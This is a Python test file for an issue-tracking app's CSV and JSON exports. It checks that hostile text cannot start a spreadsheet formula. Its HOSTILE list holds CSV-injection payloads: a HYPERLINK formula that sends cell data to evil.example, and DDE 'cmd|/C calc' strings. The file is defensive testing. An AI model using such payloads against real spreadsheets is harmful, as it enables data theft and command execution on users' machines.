"""The issue pool's exports (issue 12): the CSV read back with Python's csv module, as a
spreadsheet would open it, holds every issue's values and no cell that starts a formula, even
for hostile titles, executors and progress text."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st

from moderation.pool import IssueOpened, IssueProgress, IssueStatus, IssueStatusChanged, Pool, Step
from recordings.exports import (
    BOM,
    COLUMNS,
    issue_json,
    issue_row,
    issues_csv,
    issues_json,
    neutralised,
)

ALMATY = timezone(timedelta(hours=5))
TODAY = date(2027, 3, 2)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",  # a no-break space first
    "\u3000+1",  # an ideographic space first
    "\uff1d1+1",  # a full-width equals sign
    "=cmd|'/C calc'!A0\n=2",
    "Ақтөбе =1",  # harmless: the sign is not first
]


def at(day: str) -> int:
    return int(datetime.fromisoformat(f"{day}T12:00:00+05:00").timestamp() * 1000)


def pool_with(text: str) -> Pool:
    """Two issues whose every text field is `text`."""
    pool = Pool()
    for n in ("1", "2"):
        pool.apply(
            IssueOpened(
                issue=n, at=at("2027-01-05"), by="aigerim", meeting_id="m1", questions=("1-0",),
                title=text or "t", description=text, topic=text, district=text, address=text,
                organisation=text or "o", official=text, deadline="2027-03-01",
                plan=(Step(text=text or "s", deadline="2027-02-01"),),
            )
        )  # fmt: skip
    pool.apply(IssueProgress(issue="1", at=at("2027-02-10"), by="bek", text=text or "p"))
    rejected = IssueStatus.REJECTED
    pool.apply(
        IssueStatusChanged(
            issue="1", at=at("2027-02-11"), by="bek", status=rejected, reason=text or "r"
        )
    )
    return pool


NOW = at("2027-03-02")


def read_back(text: str) -> list[dict[str, str]]:
    """As a spreadsheet opens the file: the BOM says UTF-8, then CSV."""
    assert text.startswith(BOM)
    raw = text.encode("utf-8")
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def starts_formula(cell: str) -> bool:
    first = cell.lstrip()[:1]
    return cell[:1] in ("\t", "\r", "\n") or first in ("=", "+", "-", "@", "\uff1d", "\uff0b")


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_the_csv_starts_a_formula(text: str) -> None:
    pool = pool_with(text)
    rows = read_back(issues_csv(pool.issues.values(), NOW, {}))
    assert [r["id"] for r in rows] == ["1", "2"]
    for row in rows:
        assert list(row) == list(COLUMNS)
        for cell in row.values():
            assert not starts_formula(cell), cell
        # Nothing else is lost: the text is there after the quote.
        assert row["title"].removeprefix("'") == text
        assert row["executor_official"].removeprefix("'") == text
    assert rows[0]["last_progress"].removeprefix("'") == text
    assert rows[0]["reason"].removeprefix("'") == text


@given(st.text(max_size=40))
def test_any_text_reads_back_whole_and_never_as_a_formula(text: str) -> None:
    shown = neutralised(text)
    assert not starts_formula(shown) or shown.startswith("'")
    assert shown in (text, "'" + text)
    rows = read_back(issues_csv(pool_with(text).issues.values(), NOW, {}))
    cell = rows[0]["description"]
    # csv normalises nothing: line breaks inside a quoted cell come back as written.
    assert cell == neutralised(text)
    assert not starts_formula(cell)


def test_the_row_holds_the_issues_values_flat() -> None:
    pool = pool_with("Abay street")
    issue = pool.get("1")
    row = issue_row(issue, TODAY, ALMATY)
    assert row == {
        "id": "1", "meeting_id": "m1", "questions": "1-0", "title": "Abay street",
        "description": "Abay street", "topic": "Abay street", "district": "Abay street",
        "address": "Abay street", "executor_organisation": "Abay street",
        "executor_official": "Abay street", "deadline": "2027-03-01", "status": "rejected",
        "reason": "Abay street", "overdue": "no", "plan": "2027-02-01 Abay street",
        "progress_count": "1", "last_progress_on": "2027-02-10", "last_progress": "Abay street",
        "opened_on": "2027-01-05", "changed_on": "2027-02-11", "merged": "",
    }  # fmt: skip
    other = issue_row(pool.get("2"), TODAY, ALMATY)
    assert (other["overdue"], other["last_progress"], other["progress_count"]) == ("yes", "", "0")
    shown = issue_json(pool.get("2"), TODAY, ALMATY)
    assert shown["overdue"] is True
    assert shown["plan"] == [
        {"text": "Abay street", "deadline": "2027-02-01", "done": False, "overdue": True}
    ]
    assert shown["executor"] == {"organisation": "Abay street", "official": "Abay street"}
    assert "by" not in str(issue_json(issue, TODAY)["history"])  # staff names stay inside
    # Its step is due 1 February: in Almaty it is the 2nd, at UTC-01:00 still the 1st.
    west = {"m1": timezone(timedelta(hours=-1))}
    assert (
        issues_json([pool.get("2")], at("2027-02-02") - 8 * 3600_000, west)[0]["overdue"] is False
    )
    assert issues_json([pool.get("2")], at("2027-02-02") - 8 * 3600_000, {})[0]["overdue"] is True


def test_cyrillic_survives_the_bom_and_a_done_step_is_marked() -> None:
    pool = Pool()
    pool.apply(
        IssueOpened(
            issue="1", at=at("2027-01-05"), by="a", meeting_id="m1", questions=("1-0", "2-0"),
            title="Жарық жоқ", organisation="Энергетика басқармасы", deadline="2027-03-01",
            plan=(Step(text="Тіректер", deadline="2027-02-01", done=True),),
        )
    )  # fmt: skip
    text = issues_csv(pool.issues.values(), NOW, {"m1": ALMATY})
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")
    (row,) = read_back(text)
    assert (row["title"], row["questions"]) == ("Жарық жоқ", "1-0 2-0")
    assert row["plan"] == "2027-02-01 Тіректер (done)"
    assert read_back(issues_csv([], NOW, {})) == []
